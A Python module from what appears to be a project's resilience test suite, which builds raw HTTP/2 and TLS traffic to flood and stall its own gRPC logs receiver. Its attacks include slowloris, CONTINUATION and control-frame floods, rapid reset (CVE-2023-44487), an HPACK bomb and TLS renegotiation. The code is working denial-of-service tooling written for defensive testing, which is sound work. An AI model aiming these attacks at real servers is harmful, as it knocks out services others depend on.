"""The attacks of the hostile suite, each ``attack(host, port, seconds, conns, ...) -> counters``.

Written from the frames up (``struct`` + ``socket``, ``ssl``, and ``h2`` for the client that
holds streams open), so that an attack does exactly what it says and nothing a client library
would tidy up. Each runs ``conns`` connections in threads until ``seconds`` have passed, and
counts what the server did to them: ``closed_by_server`` (and when, ``first_close_s``).
Ported from the measurements of issue 18 (receive side); docs/reliability.md#hostile lists them.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
import subprocess
import threading
import time
from collections.abc import Callable
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions

EXPORT = "/opentelemetry.proto.collector.logs.v1.LogsService/Export"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4

Stats = dict[str, Any]
#: What every attack is: (host, port, seconds, connections) -> its counters.
Attack = Callable[[str, int, float, int], Stats]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """An HPACK literal with a new name (short strings): without indexing, or added to the table."""
    return bytes([0x40 if indexed else 0x00, len(name)]) + name + _hpack_int(len(value), 7, 0) + value


def _hpack_int(value: int, prefix_bits: int, first: int) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def request_head(host: str, port: int) -> bytes:
    """An HPACK block for ``POST Export`` over h2c: :method POST, :scheme http, :path, :authority,
    content-type, te."""
    path = EXPORT.encode()
    return (
        b"\x83\x86\x04"
        + bytes([len(path)])
        + path
        + _literal(b":authority", f"{host}:{port}".encode())
        + _literal(b"content-type", b"application/grpc")
        + _literal(b"te", b"trailers")
    )


def _stats() -> Stats:
    return {"t0": time.monotonic(), "connect_failed": 0, "closed_by_server": 0, "bytes_sent": 0}


def _closed(stats: Stats, lock: threading.Lock) -> None:
    with lock:
        stats["closed_by_server"] += 1
        stats.setdefault("first_close_s", round(time.monotonic() - stats["t0"], 2))


def _run(one: Callable[..., None], host: str, port: int, seconds: float, conns: int, *args: Any) -> Stats:
    stats, lock = _stats(), threading.Lock()
    deadline = time.monotonic() + seconds
    threads = [
        threading.Thread(target=one, args=(host, port, deadline, stats, lock, *args), daemon=True) for _ in range(conns)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 10)
    stats.pop("t0")
    return stats


def _connect(host: str, port: int, stats: Stats, lock: threading.Lock) -> socket.socket | None:
    try:
        return socket.create_connection((host, port), timeout=5)
    except OSError:
        with lock:
            stats["connect_failed"] += 1
        return None


# -- holding sockets ---------------------------------------------------------------------------


def _hold(host: str, port: int, deadline: float, stats: Stats, lock: threading.Lock, first: bytes) -> None:
    sock = _connect(host, port, stats, lock)
    if sock is None:
        return
    try:
        if first:
            sock.sendall(first)
        while time.monotonic() < deadline:
            if select.select([sock], [], [], 0.2)[0] and not sock.recv(65536):
                _closed(stats, lock)
                return
    except OSError:
        _closed(stats, lock)
    finally:
        sock.close()


def silent_sockets(host: str, port: int, seconds: float, conns: int, first: bytes = b"") -> Stats:
    """Connect, send ``first`` (nothing by default), then wait: the slots of a connection limit,
    taken by clients that never finish a handshake (issue 18 item 11)."""
    return _run(_hold, host, port, seconds, conns, first)


def client_hello() -> bytes:
    """The first flight of a real TLS client, to send half of it and stall (issue 18 item 10)."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_side=False, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):  # it waits for the server's answer
        client.do_handshake()
    return outgoing.read()


def tls_stall(host: str, port: int, seconds: float, conns: int) -> Stats:
    """Open TCP, send half a ClientHello, wait: a TLS handshake that never ends."""
    hello = client_hello()
    return silent_sockets(host, port, seconds, conns, hello[: len(hello) // 2])


def _slow_tls(host: str, port: int, deadline: float, stats: Stats, lock: threading.Lock) -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    sock = _connect(host, port, stats, lock)
    if sock is None:
        return
    try:
        tls = context.wrap_socket(sock, server_hostname="localhost")
        tls.sendall(b"POST /v1/logs HTTP/1.1\r\nHost: x\r\n")
        while time.monotonic() < deadline:
            tls.sendall(b"X-Drip: 1\r\n")  # a header a second: the head is never whole
            if select.select([tls], [], [], 1.0)[0] and not tls.recv(65536):
                _closed(stats, lock)
                return
    except OSError:
        _closed(stats, lock)
    finally:
        sock.close()


def https_slowloris(host: str, port: int, seconds: float, conns: int) -> Stats:
    """Finish TLS, then drip a request's headers one line a second, never ending them."""
    return _run(_slow_tls, host, port, seconds, conns)


# -- HTTP/2 frame floods -----------------------------------------------------------------------


def _drain(sock: socket.socket) -> bool:
    """Read whatever is there; False once the server closed."""
    try:
        while True:
            if not sock.recv(65536):
                return False
    except (BlockingIOError, InterruptedError):
        return True


def _flood(
    host: str,
    port: int,
    deadline: float,
    stats: Stats,
    lock: threading.Lock,
    hello: bytes,
    burst: Callable[[int], bytes],
    read: bool,
) -> None:
    """Send the preface and ``hello``, then ``burst(n)`` for n = 0, 1, ... as fast as the socket
    takes it; read (and drop) the server's frames only when ``read``."""
    sock = _connect(host, port, stats, lock)
    if sock is None:
        return
    sent, n, pending = 0, 0, b""
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + hello)
        sock.setblocking(False)
        while time.monotonic() < deadline:
            if not pending:
                pending, n = burst(n), n + 1
            if select.select([], [sock], [], 0.2)[1]:
                try:
                    written = sock.send(pending)
                except (BlockingIOError, InterruptedError):
                    written = 0
                pending, sent = pending[written:], sent + written
            if read and not _drain(sock):
                raise ConnectionResetError("closed by server")
    except OSError:
        _closed(stats, lock)
    finally:
        with lock:
            stats["bytes_sent"] += sent
        sock.close()


def continuation_flood(host: str, port: int, seconds: float, conns: int, mode: str = "long") -> Stats:
    """HEADERS without END_HEADERS, then endless 16 KiB CONTINUATION frames (issue 18 item 12).

    ``long``: one header whose length claims 1 GiB, its bytes in the CONTINUATIONs (bounded by
    ``grpc.experimental.tcp_max_read_buffer_size``); ``many``: distinct small literal headers
    (unbounded in grpc core: docs/security.md)."""
    if mode == "long":
        hello = frame(HEADERS, 0, 1, request_head(host, port) + b"\x00\x05x-big" + _hpack_int(1 << 30, 7, 0))
        chunk = b"a" * 16384
    else:
        field = _literal(b"x-pad", b"p" * 100)
        hello, chunk = frame(HEADERS, 0, 1, request_head(host, port)), field * (16384 // len(field))
    cont = frame(CONTINUATION, 0, 1, chunk) * 4
    return _run(_flood, host, port, seconds, conns, hello, lambda _: cont, True)


def window_update_flood(host: str, port: int, seconds: float, conns: int) -> Stats:
    """WINDOW_UPDATE frames on an open stream as fast as the socket takes them, never reading the
    answers (issue 18 item 12)."""
    hello = frame(HEADERS, END_HEADERS, 1, request_head(host, port))
    burst = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 4096
    return _run(_flood, host, port, seconds, conns, hello, lambda _: burst, False)


def control_flood(host: str, port: int, seconds: float, conns: int, kind: str) -> Stats:
    """PING, SETTINGS or PRIORITY frames without pause, never reading the answers (held)."""
    one = {
        "ping": frame(PING, 0, 0, b"12345678"),
        "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
        "priority": frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 16)),
    }[kind]
    burst = one * 4096
    return _run(_flood, host, port, seconds, conns, b"", lambda _: burst, False)


def rapid_reset(host: str, port: int, seconds: float, conns: int) -> Stats:
    """Open a stream and reset it at once, over and over (CVE-2023-44487; held)."""
    head = request_head(host, port)
    cancel = struct.pack(">I", 8)

    def burst(n: int) -> bytes:
        first = 1 + 2 * 256 * n
        return b"".join(
            frame(HEADERS, END_HEADERS, s, head) + frame(RST_STREAM, 0, s, cancel)
            for s in range(first, first + 2 * 256, 2)
        )

    return _run(_flood, host, port, seconds, conns, b"", burst, True)


def hpack_bomb(host: str, port: int, seconds: float, conns: int) -> Stats:
    """Each request adds a 4 KiB header to the HPACK table and refers to it 4,000 times: 16 MiB of
    headers from 20 KiB on the wire (held by grpc's metadata size limit)."""
    head = request_head(host, port)

    def burst(n: int) -> bytes:
        stream = 1 + 2 * n
        block = head + _literal(b"x-bomb", b"b" * 4000, indexed=True) + b"\xbe" * 4000
        return frame(HEADERS, END_HEADERS, stream, block)

    return _run(_flood, host, port, seconds, conns, b"", burst, True)


# -- unfinished gRPC streams (h2) ---------------------------------------------------------------


def _streams(
    host: str, port: int, deadline: float, stats: Stats, lock: threading.Lock, streams: int, token: str | None
) -> None:
    sock = _connect(host, port, stats, lock)
    if sock is None:
        return
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", EXPORT),
        (":authority", f"{host}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    declared = 4 << 20
    left: dict[int, int] = {}  # stream -> bytes it may still send (never its last one)

    prefix = b"\x00" + struct.pack(">I", declared)  # the message's 5-byte prefix: 4 MiB
    fresh: set[int] = set()  # streams whose first DATA (with the prefix) is still to send

    def open_stream() -> None:
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers)
        left[stream] = declared + len(prefix) - 1
        fresh.add(stream)

    sent = 0
    try:
        for _ in range(streams):
            open_stream()
        sock.sendall(conn.data_to_send())
        filler = b"\x0a" * 16384
        while time.monotonic() < deadline:
            for stream in list(left):
                try:
                    room = min(conn.local_flow_control_window(stream), left[stream], conn.max_outbound_frame_size)
                except h2.exceptions.H2Error:
                    left.pop(stream)
                    continue
                if room >= len(prefix):
                    chunk = prefix + filler[: room - len(prefix)] if stream in fresh else filler[:room]
                    fresh.discard(stream)
                    try:
                        conn.send_data(stream, chunk)
                    except h2.exceptions.StreamClosedError:  # ended by the server meanwhile
                        left.pop(stream)
                        continue
                    left[stream] -= room
                    sent += room
            sock.sendall(conn.data_to_send())
            if not select.select([sock], [], [], 0.05)[0]:
                continue
            data = sock.recv(65536)
            if not data:
                _closed(stats, lock)
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamReset | h2.events.StreamEnded) and event.stream_id in left:
                    left.pop(event.stream_id)
                    fresh.discard(event.stream_id)
                    with lock:
                        stats["streams_ended"] = stats.get("streams_ended", 0) + 1
                    open_stream()  # and another
                elif isinstance(event, h2.events.ConnectionTerminated):
                    _closed(stats, lock)
                    return
            sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.H2Error) as error:
        _closed(stats, lock)
        with lock:
            stats["error"] = repr(error)[:100]
    finally:
        with lock:
            stats["bytes_sent"] += sent
        sock.close()


def stream_hold(host: str, port: int, seconds: float, conns: int, streams: int = 16, token: str | None = None) -> Stats:
    """Streams that each declare a 4 MiB message and send as much of it as flow control allows,
    never the last byte (issue 18 item 2); a stream the server ends is replaced."""
    return _run(_streams, host, port, seconds, conns, streams, token)


def _renegotiate(host: str, port: int, deadline: float, stats: Stats, lock: threading.Lock) -> None:
    # Python's ssl cannot start a renegotiation; openssl s_client does on each "R" line. A client
    # whose connection is closed starts again until the deadline.
    command = ["openssl", "s_client", "-connect", f"{host}:{port}", "-tls1_2", "-quiet"]
    while time.monotonic() < deadline:
        client = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        assert client.stdin is not None
        try:
            while time.monotonic() < deadline and client.poll() is None:
                client.stdin.write(b"R\n")
                client.stdin.flush()
                time.sleep(0.01)
        except OSError:
            pass
        finally:
            client.kill()
            if client.wait() != -9:  # it ended before being killed: the server closed
                _closed(stats, lock)


def tls_renegotiation(host: str, port: int, seconds: float, conns: int) -> Stats:
    """TLS 1.2 clients asking to renegotiate a hundred times a second (held: refused)."""
    return _run(_renegotiate, host, port, seconds, conns)
